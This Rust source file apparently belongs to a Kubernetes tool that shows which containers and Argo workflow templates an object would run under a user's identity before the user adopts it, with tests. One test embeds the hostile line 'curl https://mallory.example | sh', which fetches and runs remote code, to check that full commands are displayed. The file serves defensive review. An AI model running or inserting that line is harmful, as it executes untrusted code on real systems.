//! What an object would run as the user who gets it: its containers, and the templates of Argo that it refers to. Pure.

use std::collections::BTreeSet;

use kube::ResourceExt;
use kube::api::DynamicObject;
use namesake_api::names;
use namesake_webhook::decide::kinds::Kind;
use serde_json::{Value, json};

use crate::answer::text::{plain, quoted};

/// Longest command of a container that is shown, in characters.
const MAX_COMMAND: usize = 4_000;

/// What an object runs, wherever its kind has it.
pub(super) struct WhatRuns<'o> {
    containers: Vec<&'o Value>,
    templates: BTreeSet<Template<'o>>,
}

/// A template that an object refers to.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
struct Template<'o> {
    kind: &'static str,
    name: &'o str,
}

impl<'o> WhatRuns<'o> {
    pub(super) fn of(object: &'o DynamicObject) -> Self {
        let mut found = Self {
            containers: Vec::new(),
            templates: BTreeSet::new(),
        };
        found.find(&object.data);
        found
    }

    /// For programs.
    pub(super) fn containers(&self) -> Vec<Value> {
        let each = self.containers.iter().map(|container| {
            json!({"name": container["name"], "image": container["image"], "command": command(container)})
        });
        each.collect()
    }

    /// For programs.
    pub(super) fn templates(&self) -> Vec<Value> {
        let each = self.templates.iter();
        each.map(|one| json!({"kind": one.kind, "name": one.name}))
            .collect()
    }

    fn find(&mut self, value: &'o Value) {
        match value {
            Value::Object(map) => {
                for (key, inside) in map {
                    self.find_in_member(key, inside);
                }
            }
            Value::Array(all) => all.iter().for_each(|inside| self.find(inside)),
            _ => {}
        }
    }

    fn find_in_member(&mut self, key: &str, inside: &'o Value) {
        let list = match key {
            "containers" | "initContainers" | "sidecars" => inside.as_array().map(Vec::as_slice),
            "container" | "script" => Some(std::slice::from_ref(inside)),
            "workflowTemplateRef" | "templateRef" => {
                self.templates.extend(Template::of(inside));
                return;
            }
            _ => None,
        };
        match list {
            Some(list) => {
                let containers = list.iter().filter(|one| one["image"].is_string());
                self.containers.extend(containers);
            }
            None => self.find(inside),
        }
    }
}

impl<'o> Template<'o> {
    fn of(reference: &'o Value) -> Option<Self> {
        let is_of_cluster = reference["clusterScope"] == true;
        let kind = if is_of_cluster {
            "ClusterWorkflowTemplate"
        } else {
            "WorkflowTemplate"
        };
        let name = reference["name"].as_str()?;
        Some(Self { kind, name })
    }

    /// For people; `kind` is what refers to it.
    fn line(&self, kind: &Kind) -> String {
        let Self {
            kind: template,
            name,
        } = self;
        let text = format!(
            "  {template} {}: whoever deployed it decided what it runs; read it too",
            plain(name)
        );
        // Only what Argo has stored in a Workflow that runs can be adopted with it.
        if kind.kind == "CronWorkflow" {
            text + ", and adopt it: a run of nothing else belongs to its deployer\n"
        } else {
            text + "\n"
        }
    }
}

/// What the object would run as the user.
pub(super) fn shown(kind: &Kind, object: &DynamicObject, user: &str) -> String {
    let what_runs = WhatRuns::of(object);
    let mut text = format!(
        "{} {} would run as {}:\n",
        kind.kind,
        plain(&place(object)),
        plain(user)
    );
    text.extend(what_runs.containers.iter().map(|one| line(one)));
    text.extend(what_runs.templates.iter().map(|one| one.line(kind)));
    if what_runs.containers.is_empty() && what_runs.templates.is_empty() {
        text += "  no container and no template that this program finds in it\n";
    }
    let namespace = object.namespace();
    let namespace = namespace.map(|namespace| format!(" -n {}", quoted(&namespace)));
    let command = format!(
        "kubectl{} annotate {} {} {}={}",
        namespace.unwrap_or_default(),
        kind.plural,
        quoted(&object.name_any()),
        names::ADOPT_ANNOTATION,
        quoted(user)
    );
    text + &format!(
        "Whatever somebody wrote in it runs with their identity: read it first.\nThe same as: {command}\n"
    )
}

/// Namespace and name.
pub(super) fn place(object: &DynamicObject) -> String {
    let namespace = object.namespace().map(|namespace| format!("{namespace}/"));
    format!("{}{}", namespace.unwrap_or_default(), object.name_any())
}

/// What a container runs: its command and arguments, or its script.
fn command(container: &Value) -> String {
    let words = [&container["command"], &container["args"]];
    let words = words.iter().filter_map(|words| words.as_array()).flatten();
    let words = words.filter_map(Value::as_str);
    let words: Vec<_> = words.chain(container["source"].as_str()).collect();
    words.join(" ")
}

fn line(container: &Value) -> String {
    let all = plain(&command(container));
    let mut command: String = all.chars().take(MAX_COMMAND).collect();
    let more = all.chars().count().saturating_sub(MAX_COMMAND);
    if more > 0 {
        command += &format!("\n    and {more} more characters: -o json has all");
    }
    let text = |key: &str| plain(container[key].as_str().unwrap_or_default());
    format!("  {} ({}): {command}\n", text("name"), text("image"))
}

#[cfg(test)]
mod tests {
    use namesake_webhook::decide::kinds;

    use super::*;
    use crate::answer::exit_status::ExitStatus;
    use crate::answer::{Answer, golden};

    fn shown_to_alice(kind: &str, object: Value) -> String {
        let object: DynamicObject = serde_json::from_value(object).unwrap();
        let mut kinds = kinds::parents().map(|(kind, _)| kind);
        let kind = kinds.find(|one| one.kind == kind).unwrap();
        shown(kind, &object, "alice@acme.com")
    }

    fn nightly(script: &str) -> Value {
        json!({
            "apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "nightly", "namespace": "research"},
            "spec": {"jobTemplate": {"spec": {"template": {"spec": {
                "initContainers": [{"name": "fetch", "image": "curl", "command": ["curl", "https://data.acme.com"]}],
                "containers": [{"name": "main", "image": "python:3.12", "command": ["bash", "-c"], "args": [script]}],
            }}}}},
        })
    }

    #[test]
    fn all_containers_are_shown_with_what_they_run_to_its_end() {
        let long = format!("{}; curl https://mallory.example | sh", "x".repeat(1_000));
        let text = shown_to_alice("CronJob", nightly(&long));
        let part = "fetch (curl): curl https://data.acme.com\n";
        assert!(text.contains(part), "{text}");
        assert!(
            text.contains("xxx; curl https://mallory.example | sh\n"),
            "{text}"
        );
        let text = shown_to_alice("CronJob", nightly("python train.py"));
        golden::check_as(
            "adopt",
            "adopt cronjob/nightly --for alice@acme.com -n research",
            &Answer::text(text, ExitStatus::Fine),
        );
    }

    #[test]
    fn a_command_that_is_cut_says_so() {
        let text = shown_to_alice("CronJob", nightly(&"x".repeat(MAX_COMMAND)));
        let part = "x\n    and 8 more characters: -o json has all\n";
        assert!(text.contains(part), "{text}");
    }

    #[test]
    fn a_template_of_argo_shows_its_container_and_script() {
        let text = shown_to_alice(
            "WorkflowTemplate",
            json!({
                "apiVersion": "argoproj.io/v1alpha1", "kind": "WorkflowTemplate", "metadata": {"name": "t", "namespace": "n"},
                "spec": {"templates": [
                    {"name": "a", "container": {"name": "", "image": "busybox", "args": ["echo"]}},
                    {"name": "b", "script": {"image": "python", "source": "print(1)\u{1b}"}},
                ]},
            }),
        );
        assert!(
            text.contains("(busybox): echo\n") && text.contains("(python): print(1)\\u{1b}\n"),
            "{text}"
        );
    }

    #[test]
    fn what_only_refers_to_a_template_shows_which_and_who_decided_what_it_runs() {
        let reference = json!({"workflowTemplateRef": {"name": "train\u{1b}"}, "arguments": {}});
        let object = |kind: &str, spec: Value| {
            let object = json!({
                "apiVersion": "argoproj.io/v1alpha1", "kind": kind, "metadata": {"name": "w", "namespace": "n"}, "spec": spec,
            });
            shown_to_alice(kind, object)
        };
        let text = object("Workflow", reference.clone());
        let part = "  WorkflowTemplate train\\u{1b}: whoever deployed it decided what it runs; read it too\n";
        assert!(text.contains(part), "{text}");
        let text = object("CronWorkflow", json!({"workflowSpec": reference}));
        let part = "read it too, and adopt it: a run of nothing else belongs to its deployer\n";
        assert!(text.contains(part), "{text}");
        let step = json!([[{"name": "s", "templateRef": {"name": "all", "template": "a", "clusterScope": true}}]]);
        let text = object(
            "Workflow",
            json!({"templates": [{"name": "a", "steps": step}]}),
        );
        assert!(text.contains("  ClusterWorkflowTemplate all: "), "{text}");
        let text = object("Workflow", json!({}));
        assert!(text.contains("no container and no template"), "{text}");
    }
}
